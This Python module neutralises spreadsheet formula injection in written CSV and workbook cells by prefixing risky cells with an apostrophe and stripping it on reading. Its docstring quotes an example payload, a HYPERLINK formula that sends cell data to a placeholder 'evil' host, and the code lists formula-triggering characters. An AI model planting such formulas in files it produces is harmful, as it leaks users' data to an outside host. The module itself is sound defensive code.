"""Cells a spreadsheet will not run as formulas, and their exact text when read back.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one), so an id or a decline reason
such as `=HYPERLINK("http://evil/?"&A1;"click")` in a file we write would run on the
coordinator's machine (OWASP "CSV injection"). Such a cell is written with a leading `'`,
which every spreadsheet shows as text; our readers take it off again.

The rule is exact, so `unquote_cell(neutralise_cell(text)) == text` for every text:
a cell is *risky* when it is any number of `'` followed by a formula character and the rest
is not a plain number. A risky cell gets one more `'` on writing, and a cell whose text after
one `'` is risky loses that `'` on reading. A text that already starts with `'=` is
written as `''=`, and `-3.5` or `+31` stay as they are: numbers are not formulas.
"""

from __future__ import annotations

import re
from typing import Final

# What makes a spreadsheet evaluate a cell (OWASP's list).
FORMULA_STARTS: Final = frozenset("=+-@\t\r")
_QUOTE: Final = "'"
# The first characters of every cell neutralise_cell changes.
MAYBE_RISKY: Final = FORMULA_STARTS | {_QUOTE}
# A plain decimal number, which a spreadsheet reads as a value, not a formula.
_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _is_risky(text: str) -> bool:
    rest = text.lstrip(_QUOTE)
    return bool(rest) and rest[0] in FORMULA_STARTS and not _NUMBER.fullmatch(rest)


def neutralise_cell(text: str) -> str:
    """`text` as a cell that no spreadsheet runs as a formula: `'` in front when needed.

    Every writer of CSV or workbook cells calls this on each text cell; the readers undo it
    with `unquote_cell`.
    """
    if text and text[0] in MAYBE_RISKY and _is_risky(text):
        return _QUOTE + text
    return text


def unquote_cell(text: str) -> str:
    """The text `neutralise_cell` was given: the one `'` it added taken off, nothing else."""
    if text.startswith(_QUOTE) and _is_risky(text[1:]):
        return text[1:]
    return text
